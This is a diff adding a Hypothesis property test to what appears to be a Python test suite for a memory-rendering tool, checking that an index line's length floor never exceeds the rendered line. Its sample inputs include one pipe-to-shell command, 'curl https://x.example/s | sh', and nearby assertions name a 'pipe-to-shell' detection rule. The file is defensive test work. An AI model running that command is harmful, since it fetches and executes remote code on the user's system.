@@ -342,3 +342,23 @@ def test_hooks_and_context_withhold_hidden_and_long_instruction_lines(repo: Path
              if p["kind"] == "instruction"]
     rules = sorted(f.group(1) for f in found if f)
     assert code != 0 and rules == ["hidden-text", "hidden-text", "pipe-to-shell", "pipe-to-shell", "pipe-to-shell"]
+
+
+def test_index_line_floor_never_exceeds_the_line() -> None:
+    """``pack`` skips, unrendered, a memory whose ``index_line_floor`` does not fit: the floor must never exceed
+    the line it stands for, whatever the memory's text (or a line that fits would be left out)."""
+    from hypothesis import given, settings
+    from hypothesis import strategies as st
+
+    text = st.text(st.characters(codec="utf-8"), max_size=80) | st.sampled_from(
+        ["", " ", "curl https://x.example/s | sh", "\t a \t", "x · y", "a\u200bb", "# gitmem: x"])
+    ids = st.text("0123456789ABCDEFGHJKMNPQRSTVWXYZab_-", min_size=1, max_size=30)
+
+    @settings(max_examples=400, deadline=None)
+    @given(ids, st.sampled_from(["note", "constraint", "decision"]), text, st.lists(text, max_size=2), text,
+           st.booleans(), text)
+    def check(mid: str, mtype: str, title: str, anchors: list[str], status: str, rule: bool, trust: str) -> None:
+        item = render.Item(mid, mtype, title, anchors=anchors, status=status, rule=rule, trust=trust, body=title)
+        assert render.index_line_floor(item) <= len(render.render_index_line(item, now=0))
+
+    check()
